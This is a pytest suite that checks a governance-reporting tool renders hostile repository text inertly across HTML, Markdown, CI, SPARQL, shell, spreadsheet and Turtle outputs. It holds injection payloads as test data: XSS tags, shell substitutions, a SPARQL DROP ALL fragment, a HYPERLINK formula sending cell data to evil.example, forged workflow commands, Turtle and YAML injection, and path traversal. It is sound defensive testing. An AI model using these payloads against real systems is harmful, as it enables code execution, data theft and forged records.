"""Injection (issue #9, item 6): ids and text from the repository never reach SPARQL, a shell, HTML,
Markdown, workflow commands, spreadsheets or Turtle unescaped.

A repository whose titles, descriptions, IRIs, URLs and file names carry script tags, event
handlers, ``javascript:`` links, Markdown emphasis, links, images and table pipes, workflow
commands after a newline, shell substitutions, SPARQL fragments and spreadsheet formulas is
rendered in every format. HTML outputs are parsed, Markdown outputs rendered (python-markdown, raw
HTML passed through as GitHub does for some tags), workflow commands read line by line, JUnit as
XML, SARIF as JSON: the hostile text must show as text and never become markup, a link, a command
or a formula. The authoring commands (``new``, ``init``) must write what they are given as data.
"""

from __future__ import annotations

import ast
import csv
import html.parser
import http.server
import io
import json
import re
import threading
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any, ClassVar
from xml.etree import ElementTree

import markdown
import pytest
import rdflib
import yaml
from openpyxl import load_workbook

from hostile.harness import Run, invoke

from git_helpers import commit_all, init
from repo_builder import PREFIXES, GovernanceRepo, literal

AS_OF = "2026-06-01"
SRC = Path(__file__).resolve().parent.parent / "src" / "rai_graph"
SYSTEM = "credit-scoring"

XSS = "<script>alert('QZXSS1')</script><img src=x onerror=alert('QZXSS2')>"
MARKDOWN = "**QZBOLD** [QZLINK](javascript:alert(3)) ![QZIMG](https://evil.example/i.png) | QZPIPE | <b>QZTAG</b>"
SHELL = "$(touch PWNED1) `touch PWNED2` ; touch PWNED3"
SPARQL = '" } ; DROP ALL ; SELECT * WHERE { ?s ?p "'
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"QZFORMULA")'
HOSTILE_TITLE = f"{XSS} {MARKDOWN} {SHELL} {SPARQL}"
COMMANDS = "QZLINE one\n::error file=evil.ttl,line=1::QZFORGED\n%0A::warning::QZFORGED2"
SHELL_FOLDER = "x-$(touch PWNED4)"


def _retitle(repo: GovernanceRepo, relpath: str, title: str) -> None:
    path = repo.root / relpath
    text = path.read_text(encoding="utf-8").rstrip()
    path.write_text(text[:-2] + f" ;\n    dcterms:title {literal(title)} .\n", encoding="utf-8")


def build_hostile_text_repository(root: Path) -> GovernanceRepo:
    """Public records (so every audience sees them) whose every text field is hostile."""
    repo = GovernanceRepo(root).with_base()
    repo.add_control("CTRL-HOST", "TC-HOST", evidence_type="ModelCard",
                     extra=(("rai:answerText", literal(f"We answer {MARKDOWN}")),))
    repo.add_system(title=HOSTILE_TITLE)
    repo.add_approved_evidence("risk", confidentiality="Public", omit=("dcterms:title",),
                               extra=(("dcterms:title", literal(HOSTILE_TITLE)),))
    repo.add_system("chatbot", "Chatbot", title="Chatbot")
    repo.add_evidence("commands", system="chatbot", confidentiality="Public", omit=("dcterms:title",),
                      extra=(("dcterms:title", literal(f"{COMMANDS} {XSS}")),))  # unapproved: in messages
    repo.add_evidence("card", implements=("CTRL-HOST",), evidence_type="ModelCard", confidentiality="Public",
                      artifact_bytes=None, artifact_url="javascript:alert('QZURL')", omit=("dcterms:title",),
                      extra=(("dcterms:title", literal(COMMANDS)),))
    repo.add_control("CTRL-POL", "TC-POL", evidence_type="Policy")
    repo.add_evidence("formula", implements=("CTRL-POL",), evidence_type="Policy", confidentiality="Public",
                      omit=("dcterms:title",), extra=(("dcterms:title", literal(FORMULA)),))
    repo.add_evidence("broken", confidentiality="Public", sha256="0" * 64, omit=("dcterms:title",),
                      extra=(("dcterms:title", literal(XSS)), ("rai:implements", "ex:QZGHOST%3Cscript%3E")))
    repo.append_block(f"evidence/{SYSTEM}/findings.ttl", "ex:finding", (
        f"ex:finding a rai:Finding ;\n    dcterms:title {literal(HOSTILE_TITLE)} ;\n"
        f"    dcterms:description {literal(COMMANDS + ' ' + XSS)} ;\n    rai:forSystem ex:CreditScoring ;\n"
        "    rai:concerns ex:CTRL-1 ;\n    rai:severity rai:High ;\n    rai:owner ex:bob ;\n"
        '    dcterms:created "2026-01-10"^^xsd:date ;\n    rai:dueDate "2026-03-01"^^xsd:date ;\n'
        "    rai:confidentiality rai:Public .\n"))
    repo.add_system(SHELL_FOLDER, "ShellFolder", title=f"Folder {SHELL}")
    repo.add_approved_evidence("shell-risk", system=SHELL_FOLDER, confidentiality="Public",
                               artifact_bytes=b"x\n", artifact_path="a;touch PWNED5;.md")
    repo.write_bytes(f"evidence/{SHELL_FOLDER}/a;touch PWNED5;.md", b"x\n")
    repo.write_text("controls/questions/bank.ttl", PREFIXES + (
        "ex:q-risk a rai:Question ;\n"
        '    rai:questionText "Has a risk assessment of the system been performed and approved?" ;\n'
        "    rai:mapsToControl ex:CTRL-1 .\n"
        "ex:q-policy a rai:Question ;\n"
        '    rai:questionText "Do you have a written policy for spreadsheet hygiene?" ;\n'
        "    rai:mapsToControl ex:CTRL-POL .\n"))
    return repo


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> GovernanceRepo:
    """The hostile-text repository under git; the first commit lacks the approved risk assessment, so
    ``diff`` reports CTRL-1 of the hostile-titled system turning met, with its reason."""
    root = tmp_path_factory.mktemp("injection") / "repo"
    repo = build_hostile_text_repository(root)
    held_back = {path: path.read_bytes() for path in (repo.root / f"evidence/{SYSTEM}").glob("risk*.ttl")}
    assert len(held_back) == 2
    for path in held_back:
        path.unlink()
    init(repo.root)
    commit_all(repo.root, "hostile text")
    for path, data in held_back.items():
        path.write_bytes(data)
    return repo


def run_ok(args: list[str]) -> Run:
    run = invoke(args)
    run.assert_clean_exit((0, 1))
    return run


# --- HTML ------------------------------------------------------------------------------------------


class _Elements(html.parser.HTMLParser):
    """Every element with its attributes, the text of scripts, and the visible text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.scripts: list[str] = []
        self.text: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))
        self._in_script = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        (self.scripts if self._in_script else self.text).append(data)


def html_problems(document: str) -> list[str]:
    """Markup that hostile text became: scripts, event handlers, javascript: URLs, data elements."""
    parsed = _Elements()
    parsed.feed(document)
    problems = [f"script: {s[:80]}" for s in parsed.scripts if "QZ" in s]
    for tag, attrs in parsed.elements:
        for name, value in attrs:
            value = (value or "").strip().lower()
            if name.startswith("on") and "qz" in value:
                problems.append(f"<{tag} {name}={value[:60]}>")
            if name in ("href", "src", "action", "formaction", "xlink:href") and value.startswith(
                    ("javascript:", "vbscript:", "data:text/html")):
                problems.append(f"<{tag} {name}={value[:60]}>")
        if tag in ("img", "b", "strong") and any("qz" in (v or "").lower() for _n, v in attrs):
            problems.append(f"<{tag} {attrs}>")
    return problems


def html_text(document: str) -> str:
    parsed = _Elements()
    parsed.feed(document)
    return " ".join(parsed.text)


def assert_safe_html(document: str, where: str, *, must_show: str = "QZXSS1") -> None:
    problems = html_problems(document)
    assert not problems, f"{where}: {problems}"
    assert must_show in html_text(document), f"{where} does not show the hostile text as text"


@pytest.fixture(scope="module")
def built(hostile: GovernanceRepo, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Report (HTML, Markdown), evidence pack, questionnaire answers and the site, for the public."""
    out = tmp_path_factory.mktemp("injection-out")
    repo = ["--repo", str(hostile.root), "--as-of", AS_OF]
    for fmt, suffix in (("html", "html"), ("markdown", "md")):
        run_ok(["report", *repo, "--framework", "test-fw", "--format", fmt, "--audience", "public",
                "-o", str(out / f"report.{suffix}")])
    run_ok(["evidence-pack", *repo, "--system", SYSTEM, "--no-pdf", "--audience", "public", "-o",
            str(out / "pack.zip")])
    (out / "questions.csv").write_text(
        "Ref,Question\nQ1,Has a risk assessment of the system been performed and approved?\n"
        "Q2,Do you have a written policy for spreadsheet hygiene?\nQ3,Is every decision logged?\n",
        encoding="utf-8")
    for suffix in ("csv", "xlsx"):
        run_ok(["questionnaire", "answer", str(out / "questions.csv"), *repo, "--system", SYSTEM, "--audience",
                "public", "-o", str(out / f"answers.{suffix}"), "--format", "markdown", "--report",
                str(out / f"answers-{suffix}.md")])
    run_ok(["site", "build", *repo, "--audience", "public", "-o", str(out / "site"), "--source-dir",
            str(out / "site-src")])
    return out


def test_report_html_shows_hostile_text_as_text(built: Path) -> None:
    """The self-contained HTML report escapes every title, description and URL."""
    assert_safe_html((built / "report.html").read_text(encoding="utf-8"), "report.html")


def test_evidence_pack_html_shows_hostile_text_as_text(built: Path) -> None:
    """The HTML pages inside the evidence pack escape every title, description and URL."""
    with zipfile.ZipFile(built / "pack.zip") as archive:
        pages = [name for name in archive.namelist() if name.endswith(".html")]
        assert pages
        for name in pages:
            document = archive.read(name).decode("utf-8")
            assert not html_problems(document), f"pack {name}: {html_problems(document)}"
        assert any("QZXSS1" in html_text(archive.read(name).decode("utf-8")) for name in pages)


def test_site_pages_show_hostile_text_as_text(built: Path) -> None:
    """No page of the site turns repository text into script, handlers, links or images."""
    pages = sorted((built / "site").rglob("*.html"))
    assert pages
    for page in pages:
        problems = html_problems(page.read_text(encoding="utf-8"))
        assert not problems, f"{page.relative_to(built)}: {problems}"
    assert any("QZXSS1" in html_text(p.read_text(encoding="utf-8")) for p in pages)


# --- Markdown --------------------------------------------------------------------------------------


def markdown_problems(text: str) -> list[str]:
    """What the hostile text becomes when a Markdown renderer shows the output."""
    rendered = markdown.markdown(text, extensions=["tables"])
    problems = html_problems(rendered)
    parsed = _Elements()
    parsed.feed(rendered)
    for tag, attrs in parsed.elements:
        if tag == "a" and any("javascript:" in (v or "") for _n, v in attrs):
            problems.append(f"link {attrs}")
    for marker in ("<strong>QZBOLD", "<b>QZTAG", ">QZLINK</a>", 'alt="QZIMG"'):
        if marker in rendered:
            problems.append(f"became markup: {marker}")
    problems.extend(_table_problems(rendered))
    return problems


def _table_problems(rendered: str) -> Iterator[str]:
    """A pipe in data must not add a column: every row has as many cells as its header."""
    for table in rendered.split("<table>")[1:]:
        body = table.split("</table>")[0]
        header = len(re.findall(r"<th[\s>]", body.split("</tr>")[0]))
        for row in body.split("</tr>")[1:]:
            cells = len(re.findall(r"<td[\s>]", row))
            if cells and cells != header:
                yield f"a row with {cells} cells under {header} headers"


MARKDOWN_OUTPUTS = ("status", "diff", "check-summary", "report", "questionnaire")


@pytest.fixture(scope="module")
def markdown_texts(hostile: GovernanceRepo, built: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    repo = ["--repo", str(hostile.root), "--as-of", AS_OF]
    summary = tmp_path_factory.mktemp("summary") / "summary.md"
    run_ok(["check", *repo, "--format", "text", "--summary", str(summary)])
    return {
        "status": run_ok(["status", *repo, "--format", "markdown"]).stdout,
        "diff": run_ok(["diff", "HEAD", *repo, "--format", "markdown"]).stdout,
        "check-summary": summary.read_text(encoding="utf-8"),
        "report": (built / "report.md").read_text(encoding="utf-8"),
        "questionnaire": (built / "answers-csv.md").read_text(encoding="utf-8"),
    }


@pytest.mark.parametrize("output", MARKDOWN_OUTPUTS)
def test_markdown_outputs_keep_hostile_text_inert(markdown_texts: dict[str, str], output: str) -> None:
    """Status, the diff comment, the step summary, the report and the questionnaire review render
    hostile titles as text: no script, image, link, emphasis, raw tag or extra table column."""
    text = markdown_texts[output]
    shown = [m for m in ("QZBOLD", "QZLINK", "QZIMG", "QZPIPE", "QZTAG", "QZXSS1") if m in text]
    assert shown == ["QZBOLD", "QZLINK", "QZIMG", "QZPIPE", "QZTAG", "QZXSS1"], f"{output} shows only {shown}"
    assert not markdown_problems(text), f"{output}: {markdown_problems(text)}"


# --- CI formats ----------------------------------------------------------------------------------


def test_workflow_commands_cannot_be_forged_by_text(hostile: GovernanceRepo) -> None:
    """``check --format github``: one command per line, and a newline or ``::`` in a title or a
    message never starts a command of its own."""
    output = run_ok(["check", "--repo", str(hostile.root), "--as-of", AS_OF, "--format", "github"]).stdout
    lines = output.splitlines()
    assert lines
    assert all(line.startswith(("::error ", "::warning ", "::notice")) for line in lines), lines
    assert not [line for line in lines if "QZFORGED" in line.split("::", 2)[1]], "data in a command's properties"
    assert "QZLINE" in output  # the hostile title is reported, escaped


def test_junit_and_sarif_stay_well_formed(hostile: GovernanceRepo) -> None:
    """JUnit is XML and SARIF is JSON whatever the text: both parse and keep the hostile text."""
    repo = ["--repo", str(hostile.root), "--as-of", AS_OF]
    junit = run_ok(["check", *repo, "--format", "junit"]).stdout
    assert "QZXSS1" in "".join(ElementTree.fromstring(junit.encode()).itertext()) + json.dumps(
        [e.attrib for e in ElementTree.fromstring(junit.encode()).iter()])
    sarif = json.loads(run_ok(["check", *repo, "--format", "sarif"]).stdout)
    assert "QZXSS1" in json.dumps(sarif, ensure_ascii=False)


# --- SPARQL -------------------------------------------------------------------------------------------


def test_no_sparql_is_assembled_from_text() -> None:
    """Static check: every ``.query``/``.update`` call in the package takes a ready-made string
    (the user's own query, or a constant), never one formatted from repository data."""
    assembled = []
    for path in SRC.rglob("*.py"):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if ((isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
                    and node.func.attr in ("query", "update") and node.args
                    and isinstance(node.args[0], ast.JoinedStr | ast.BinOp))
                    or (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
                        and node.func.attr in ("query", "update") and node.args
                        and isinstance(node.args[0], ast.Call) and isinstance(node.args[0].func, ast.Attribute)
                        and node.args[0].func.attr == "format")):
                assembled.append(f"{path.relative_to(SRC)}:{node.lineno}")
    assert not assembled, f"SPARQL assembled from strings at {assembled}"


def test_text_that_looks_like_sparql_is_data(hostile: GovernanceRepo) -> None:
    """A title holding SPARQL comes back from ``query`` verbatim, as a value."""
    run = run_ok(["query", "SELECT ?t WHERE { <https://example.org/acme/risk> "
                  "<http://purl.org/dc/terms/title> ?t }", "--repo", str(hostile.root), "--format", "json"])
    assert json.loads(run.stdout) == [{"t": HOSTILE_TITLE}]


class _Recorder(http.server.BaseHTTPRequestHandler):
    requests: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.requests.append(self.path)
        self.send_response(500)
        self.end_headers()

    do_POST = do_GET

    def log_message(self, format: str, *args: Any) -> None:
        return


def test_query_never_reaches_the_network(hostile: GovernanceRepo) -> None:
    """A SERVICE clause (e.g. in a query file kept in the repository) makes no network request."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        port = server.server_address[1]
        run = invoke(["query", f"SELECT * WHERE {{ SERVICE <http://127.0.0.1:{port}/sparql> {{ ?s ?p ?o }} }}",
                      "--repo", str(hostile.root)])
    finally:
        server.shutdown()
        server.server_close()
    assert _Recorder.requests == []
    run.assert_clean_exit((0, 1, 2))


def test_query_errors_during_evaluation_are_messages(hostile: GovernanceRepo) -> None:
    """A query that fails while it runs (not while it parses) ends with a message and exit 2."""
    run = invoke(["query", "SELECT ?o WHERE { GRAPH ?g { ?s ?p ?o } }", "--repo", str(hostile.root)])
    run.assert_clean_exit((0, 2))


# --- shell ---------------------------------------------------------------------------------------------


def test_shell_metacharacters_in_names_and_revisions_are_never_run(
    hostile: GovernanceRepo, built: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Folder and file names with ``$(…)``, backticks and ``;``, and option-like git revisions,
    are data: nothing is executed and git receives no option from them."""
    monkeypatch.chdir(tmp_path)
    repo = ["--repo", str(hostile.root), "--as-of", AS_OF]
    for args in (["check", *repo, "--format", "json"], ["status", *repo, "--format", "markdown"],
                 ["diff", "HEAD", *repo], ["evidence-pack", *repo, "--system", SHELL_FOLDER, "-o",
                                          str(tmp_path / "shell.zip"), "--no-pdf"]):
        run_ok(args)
    for args in (["diff", *repo, "--", f"--output={tmp_path}/PWNED6"],
                 ["report", *repo, "--framework", "test-fw", "--rev", f"--output={tmp_path}/PWNED7"],
                 ["evidence-pack", *repo, "--system", SYSTEM, "--rev", f"--output={tmp_path}/PWNED8",
                  "-o", str(tmp_path / "x.zip")]):
        run = invoke(args)
        run.assert_clean_exit((2,))
    roots = (tmp_path, hostile.root, built, hostile.root.parent)
    assert not [p for root in roots for p in root.rglob("PWNED*")]


# --- spreadsheets ----------------------------------------------------------------------------------------


def test_answers_never_write_a_formula_into_the_workbook(built: Path) -> None:
    """No cell of the answered workbook is a formula made from repository text."""
    workbook = load_workbook(built / "answers.xlsx")
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert any("QZFORMULA" in str(cell.value) for cell in cells), "the formula title is not cited"
    assert [c.coordinate for c in cells if c.data_type == "f" and "QZFORMULA" in str(c.value)] == []


def test_answers_csv_never_starts_a_cell_with_a_formula(built: Path) -> None:
    """No cell of the answered CSV starts with = + - @ (a spreadsheet would evaluate it)."""
    text = (built / "answers.csv").read_bytes().decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert any("QZFORMULA" in cell for cell in cells), "the formula title is not cited"
    assert [c for c in cells if "QZFORMULA" in c and c[:1] in "=+-@"] == []


# --- Turtle written by the authoring commands ---------------------------------------------------------------


@pytest.fixture
def authoring(tmp_path: Path) -> GovernanceRepo:
    repo = GovernanceRepo(tmp_path / "repo").with_base()
    repo.write_text("rai-graph.toml", 'base_iri = "https://example.org/acme/"\n')
    repo.add_system()
    repo.write_bytes(f"evidence/{SYSTEM}/risk.md", b"# Risk assessment\n")
    return repo


def _new_evidence(repo: GovernanceRepo, *extra: str) -> Run:
    return invoke(["new", "evidence", "--repo", str(repo.root), "--system", SYSTEM, "--control", "TC-01",
                   "--author", "bob", "--date", "2026-01-15", *extra])


def test_new_evidence_writes_hostile_text_as_literals(authoring: GovernanceRepo) -> None:
    """Quotes, backslashes, prefixes and closing dots in a title are stored as the title, nothing more."""
    title = 'Risk """ \\ " . @prefix ex: <https://evil.example/> . ex:a ex:b ex:c . ' + XSS
    _new_evidence(authoring, "--artifact", str(authoring.root / f"evidence/{SYSTEM}/risk.md"), "--title", title,
                  "--id", "t1").assert_clean_exit((0,))
    graph = rdflib.Graph().parse(authoring.root / f"evidence/{SYSTEM}/t1.ttl", format="turtle")
    assert [str(o) for o in graph.objects(predicate=rdflib.URIRef("http://purl.org/dc/terms/title"))] == [title]
    assert len(set(graph.subjects())) == 1


def test_new_evidence_title_cannot_add_statements(authoring: GovernanceRepo) -> None:
    """A title with a newline and a whole record after it writes one record and no other triple."""
    rai, acme = "https://w3id.org/rai-graph/ns#", "https://example.org/acme/"
    forged = (f"<{acme}forged> a <{rai}Approval> ; <{rai}approves> <{acme}credit-scoring-t1> ; "
              f"<{rai}decision> <{rai}Approved> ; <http://www.w3.org/ns/prov#wasAssociatedWith> <{acme}alice> ; "
              f"<{rai}inRole> <{acme}RAILead> ; <http://www.w3.org/ns/prov#endedAtTime> "
              '"2026-02-01"^^<http://www.w3.org/2001/XMLSchema#date> .')
    run = _new_evidence(authoring, "--artifact", str(authoring.root / f"evidence/{SYSTEM}/risk.md"),
                        "--title", f"Risk\n{forged}", "--id", "t1")
    run.assert_clean_exit((0, 2))
    record = authoring.root / f"evidence/{SYSTEM}/t1.ttl"
    if record.exists():
        graph = rdflib.Graph().parse(record, format="turtle")
        assert {str(s) for s in graph.subjects()} == {f"{acme}credit-scoring-t1"}


def test_new_evidence_id_cannot_leave_the_repository(authoring: GovernanceRepo) -> None:
    """``--id ../../../outside`` is refused or kept inside evidence/: nothing is written outside."""
    run = _new_evidence(authoring, "--artifact-url", "https://example.org/risk.pdf", "--id", "../../../outside")
    run.assert_clean_exit((0, 2))
    outside = [p for p in authoring.root.parent.rglob("*.ttl") if not p.is_relative_to(authoring.root)]
    assert outside == []


def test_new_evidence_refuses_an_artifact_url_that_is_not_an_iri(authoring: GovernanceRepo) -> None:
    """An artefact URL holding ``>`` and a statement is refused with a message, not a traceback."""
    run = _new_evidence(authoring, "--artifact-url",
                        'https://x.example/> ; <https://w3id.org/rai-graph/ns#note> "pwn', "--id", "u1")
    run.assert_clean_exit((2,))
    assert not (authoring.root / f"evidence/{SYSTEM}/u1.ttl").exists()


def test_init_writes_organisation_names_and_emails_as_data(tmp_path: Path) -> None:
    """``init`` with quotes, a newline and a forged e-mail either refuses or writes a repository
    that parses cleanly and holds exactly one role for the lead."""
    target = tmp_path / "org"
    run = invoke(["init", str(target), "--organisation", 'Evil "Corp" \\ Ltd\nex:x rai:hasRole ex:RAILead .',
                  "--lead-name", 'Ada "x"', "--lead-email",
                  "ada@example.org> ; <https://w3id.org/rai-graph/ns#hasRole> <https://example.org/x/Admin"])
    run.assert_clean_exit((0, 2))
    if run.exit_code == 2:
        return
    check = invoke(["check", "--repo", str(target), "--format", "json", "--fail-on", "none"])
    assert [e for e in check.json()["errors"] if e["kind"] == "parse"] == []
    people = rdflib.Graph().parse(target / "controls/people.ttl", format="turtle")
    roles = list(people.objects(predicate=rdflib.URIRef("https://w3id.org/rai-graph/ns#hasRole")))
    assert len(roles) == 1


def test_init_default_branch_cannot_edit_the_workflow(tmp_path: Path) -> None:
    """``--default-branch`` with YAML in it is refused, or becomes the one branch name of the trigger."""
    branch = "main]\n  workflow_dispatch:\n#"
    run = invoke(["init", str(tmp_path / "org"), "--lead-name", "Ada", "--lead-email", "ada@example.org",
                  "--default-branch", branch])
    run.assert_clean_exit((0, 2))
    if run.exit_code == 2:
        return
    workflow = yaml.safe_load((tmp_path / "org/.github/workflows/rai-graph.yml").read_text(encoding="utf-8"))
    triggers = workflow.get("on", workflow.get(True))
    assert set(triggers) == {"pull_request", "push"}
    assert triggers["push"]["branches"] == [branch]
